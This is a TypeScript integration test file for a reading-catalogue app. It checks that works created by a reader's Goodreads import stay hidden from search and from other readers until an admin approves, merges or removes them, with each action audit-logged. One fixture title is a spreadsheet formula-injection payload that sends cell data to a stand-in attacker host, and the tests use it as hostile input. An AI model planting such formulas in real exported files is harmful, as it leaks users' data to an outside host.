// Issue 26, "a catalogue readers can trust", over real HTTP with readers signed in through supabase-js and
// the public read cache on: a work a reader's import creates is theirs (their pages, their public shelf)
// and nobody else's (search, author pages, work pages, another reader's import matching) until an admin
// approves it (searchable at once, through the cache), merges it into another work or removes it; every
// verdict is in the audit log.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPublicReadCache } from '../../server/cache/public-read-cache';
import type { PublicReadCache } from '../../server/cache/public-read-cache';
import { seedCatalogue } from '../../server/db/seed/catalogue';
import { sampleCatalogue } from '../fixtures/sample-catalogue';
import { importAndWait, signedInReader } from '../support/import-flows';
import type { Reader } from '../support/import-flows';
import { startTestServer } from '../support/test-server';
import type { TestServer } from '../support/test-server';
import { createTestUser } from '../support/test-users';
import type { TestUser } from '../support/test-users';

const HEADER =
  'Book Id,Title,Author,Author l-f,Additional Authors,ISBN,ISBN13,My Rating,Average Rating,Publisher,Binding,' +
  'Number of Pages,Year Published,Original Publication Year,Date Read,Date Added,Bookshelves,' +
  'Bookshelves with positions,Exclusive Shelf,My Review,Spoiler,Private Notes,Read Count,Recommended For,' +
  'Recommended By,Owned Copies,Original Purchase Date,Original Purchase Location,Condition,' +
  'Condition Description,BCID';
const csvCell = (text: string) => `"${text.replaceAll('"', '""')}"`;
/** A Goodreads row without ISBNs (so no Open Library lookup), on the reader's Read shelf. */
const row = (id: number, title: string, author: string) =>
  [
    id,
    csvCell(title),
    csvCell(author),
    '',
    '',
    '=""',
    '=""',
    0,
    0,
    'Small Press',
    'Paperback',
    200,
    2020,
    2020,
    '2024/01/02',
    '2024/01/01',
    '',
    '',
    'read',
    '',
    '',
    '',
    1,
    '',
    '',
    0,
    '',
    '',
    '',
    '',
    '',
  ].join(',');
const goodreads = (...rows: string[]) => `${HEADER}\n${rows.join('\n')}\n`;

const TITLE = 'Quillfeather Chronicles of Zanzibar';
const AUTHOR = 'Mallory Brightquill';
const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")';

let s: TestServer;
let cache: PublicReadCache;
let maker: Reader;
let other: Reader;
let admin: TestUser;
let workId: string;
let formulaWorkId: string;
beforeAll(async () => {
  s = await startTestServer();
  await seedCatalogue(s.t.deps.db, sampleCatalogue);
  cache = await startPublicReadCache(s.t.deps.db);
  s.t.deps.publicReads = cache;
  maker = await signedInReader(s);
  other = await signedInReader(s);
  admin = await createTestUser(s.t, { admin: true });
  const done = await importAndWait(
    s,
    maker,
    goodreads(row(1, TITLE, AUTHOR), row(2, FORMULA, 'Anon Ymous Prankster')),
  );
  expect(done.created).toBe(2);
  workId = done.rows.find((r: any) => r.row === 1).work_id;
  formulaWorkId = done.rows.find((r: any) => r.row === 2).work_id;
});
afterAll(async () => {
  await cache.close();
  await s.close();
});

const titlesFound = async (query: string, token?: string) =>
  (await s.sf('search-works', { query }, token)).body.results.map((r: any) => r.work_title);

describe('a work a reader imported', () => {
  it('is not found by search, for anyone, the maker included', async () => {
    for (const token of [undefined, other.token, maker.token]) {
      expect(await titlesFound('Quillfeather', token)).toEqual([]);
      expect(await titlesFound('hyperlink evil', token)).toEqual([]);
      // The misspelling path too.
      expect(await titlesFound('Quilfeather Chronicels', token)).toEqual([]);
    }
    expect((await s.sf('search-authors', { query: AUTHOR })).body.results).toEqual([]);
  });

  it('is on no author page', async () => {
    const [credit] = await s.t.deps.db.query<{ author_id: string }>(
      'select author_id from public.work_authors where work_id = $1',
      [workId],
    );
    const author = await s.sf('author-details', { author_id: credit!.author_id });
    expect(author.status).toBe(200);
    expect(author.body.works).toEqual([]);
  });

  it('has a work page for its maker only: anyone else is told it does not exist', async () => {
    // The anonymous read first, so a shared answer would be kept for the maker's read, if one were kept.
    for (const token of [undefined, other.token]) {
      for (const name of ['work-details', 'work-reviews', 'work-editions', 'work-genres']) {
        const res = await s.sf(name, { work_id: workId }, token);
        expect(res.status, `${name}: ${JSON.stringify(res.body)}`).toBe(404);
        expect(res.body.error).toBe('Work not found');
      }
    }
    const mine = await s.sf('work-details', { work_id: workId }, maker.token);
    expect(mine.status).toBe(200);
    expect(mine.body.title).toBe(TITLE);
    expect((await s.sf('work-reviews', { work_id: workId }, maker.token)).status).toBe(200);
    expect((await s.sf('work-details', { work_id: workId }, admin.token)).body.title).toBe(TITLE);
    // Asked again by a stranger after the maker: still nothing.
    expect((await s.sf('work-details', { work_id: workId }, other.token)).status).toBe(404);
  });

  it('cannot be shelved, logged or reviewed by anyone else, who is told it does not exist', async () => {
    const [edition] = await s.t.deps.db.query<{ id: string }>(
      'select id from public.editions where work_id = $1',
      [workId],
    );
    const editionId = edition!.id;
    const tries = [
      ['add-to-shelf', { shelf_name: 'Read', edition_id: editionId }],
      ['log-progress-event', { work_id: workId, edition_id: editionId, event_type: 'start' }],
      ['submit-review', { work_id: workId, rating: 1, headline: 'Mine now' }],
    ] as const;
    for (const [name, body] of tries) {
      const res = await s.sf(name, body, other.token);
      expect(res.status, `${name}: ${JSON.stringify(res.body)}`).toBe(404);
    }
    const held = await s.t.deps.db.query(
      `select 1 from public.reading_progress_events where work_id = $1 and user_id = $2
       union all select 1 from public.reviews where work_id = $1 and user_id = $2`,
      [workId, other.id],
    );
    expect(held).toEqual([]);
    // Its maker can.
    const mine = await s.sf('submit-review', { work_id: workId, rating: 4, headline: 'Mine' }, maker.token);
    expect(mine.status, JSON.stringify(mine.body)).toBe(200);
  });

  it('keeps its page for a reader who already held it before it became unverified', async () => {
    // An import before issue 26 could match another reader's work; that reader keeps their own books.
    const holder = await signedInReader(s);
    const shelves = (await s.sf('list-shelves', {}, holder.token)).body as { id: string; slug: string }[];
    const read = shelves.find((sh) => sh.slug === 'read');
    const [edition] = await s.t.deps.db.query<{ id: string }>(
      'select id from public.editions where work_id = $1',
      [workId],
    );
    await s.t.deps.db.query(
      "insert into public.shelf_items (shelf_id, work_id, edition_id, sort_key) values ($1, $2, $3, 'a0')",
      [read!.id, workId, edition!.id],
    );
    const page = await s.sf('work-details', { work_id: workId }, holder.token);
    expect(page.status, JSON.stringify(page.body)).toBe(200);
    expect(page.body.title).toBe(TITLE);
    expect((await s.sf('work-details', { work_id: workId }, other.token)).status).toBe(404);
    // Let go again, so the admin's reader count below counts the maker alone.
    await s.t.deps.db.query('delete from public.shelf_items where shelf_id = $1', [read!.id]);
  });

  it("shows on its maker's public shelf, which is theirs to show", async () => {
    const shelves = (await s.sf('list-shelves', {}, maker.token)).body as { id: string; slug: string }[];
    const read = shelves.find((sh) => sh.slug === 'read')!;
    const shelf = await s.sf('public-shelf', { shelf_id: read.id, limit: 20 });
    expect(shelf.status).toBe(200);
    expect(shelf.body.items.map((i: any) => i.works.title).sort()).toEqual([FORMULA, TITLE].sort());
    // Marked, so the shelf shows them without a link to a page only their maker may open.
    expect(shelf.body.items.map((i: any) => i.works.verified)).toEqual([false, false]);
  });

  it("is never matched by another reader's import, who gets a book of their own", async () => {
    const done = await importAndWait(s, other, goodreads(row(7, TITLE, AUTHOR)));
    expect(done.rows[0]).toMatchObject({ outcome: 'created' });
    expect(done.rows[0].work_id).not.toBe(workId);
    // The maker's own next import does match it.
    const again = await importAndWait(s, maker, goodreads(row(8, TITLE, AUTHOR)));
    expect(again.rows[0]).toMatchObject({ outcome: 'matched', work_id: workId });
  });
});

describe("the admin's verdicts", () => {
  it('lists unverified works newest first, with their readers, to admins only', async () => {
    expect((await s.sf('unverified-works', {}, other.token)).status).toBe(403);
    const list = await s.sf('unverified-works', {}, admin.token);
    expect(list.status).toBe(200);
    expect(list.body.total).toBe(3);
    const works = list.body.works as any[];
    expect(works.map((w) => w.created_at)).toEqual([...works.map((w) => w.created_at)].sort().reverse());
    const mine = works.find((w) => w.id === workId);
    expect(mine).toMatchObject({ title: TITLE, author_names: AUTHOR, readers: 1 });
    expect(mine.created_by.id).toBe(maker.id);
  });

  it('approve puts the work in search at once, through the cache, and on its work page for everyone', async () => {
    expect(await titlesFound('Quillfeather')).toEqual([]); // kept in the cache now
    const res = await s.sf('approve-work', { work_id: workId }, admin.token);
    expect(res.status).toBe(200);
    expect(res.body.message).toBe('Work approved');
    expect(await titlesFound('Quillfeather')).toEqual([TITLE]);
    expect((await s.sf('work-details', { work_id: workId })).body.title).toBe(TITLE);
    expect((await s.sf('approve-work', { work_id: workId }, admin.token)).status).toBe(409);
  });

  it("merge moves another reader's copy into the approved work", async () => {
    const [copy] = await s.t.deps.db.query<{ id: string }>(
      'select id from public.works where created_by = $1 and not verified',
      [other.id],
    );
    const res = await s.sf('merge-work', { from_work_id: copy!.id, into_work_id: workId }, admin.token);
    expect(res.status).toBe(200);
    const list = await s.sf('unverified-works', {}, admin.token);
    expect(list.body.works.map((w: any) => w.id)).toEqual([formulaWorkId]);
    const shelves = (await s.sf('list-shelves', {}, other.token)).body as { id: string; slug: string }[];
    const read = shelves.find((sh) => sh.slug === 'read')!;
    const items = await s.sf('get-shelf-items', { shelf_id: read.id, limit: 20 }, other.token);
    expect(items.body.map((i: any) => i.works.id)).toEqual([workId]);
  });

  it('remove deletes the work and what readers hung on it, and refuses a verified work', async () => {
    expect((await s.sf('remove-work', { work_id: workId }, admin.token)).status).toBe(409);
    const res = await s.sf('remove-work', { work_id: formulaWorkId }, admin.token);
    expect(res.status).toBe(200);
    expect(res.body.message).toBe('Work removed');
    expect((await s.sf('work-details', { work_id: formulaWorkId }, maker.token)).status).toBe(404);
    const list = await s.sf('unverified-works', {}, admin.token);
    expect(list.body).toEqual({ works: [], total: 0 });
    const left = await s.t.deps.db.query(
      `select 1 from public.shelf_items where work_id = $1
       union all select 1 from public.reading_progress_events where work_id = $1`,
      [formulaWorkId],
    );
    expect(left).toEqual([]);
    expect((await s.sf('remove-work', { work_id: formulaWorkId }, admin.token)).status).toBe(404);
  });

  it('writes each verdict to the audit log', async () => {
    const entries = await s.t.deps.db.query<{ action: string; target_id: string; actor_id: string }>(
      `select action, target_id, actor_id from public.admin_audit
       where action in ('approve-work', 'merge-work', 'remove-work') order by created_at, id`,
    );
    expect(entries).toEqual([
      { action: 'approve-work', target_id: workId, actor_id: admin.id },
      { action: 'merge-work', target_id: workId, actor_id: admin.id },
      { action: 'remove-work', target_id: formulaWorkId, actor_id: admin.id },
    ]);
  });
});
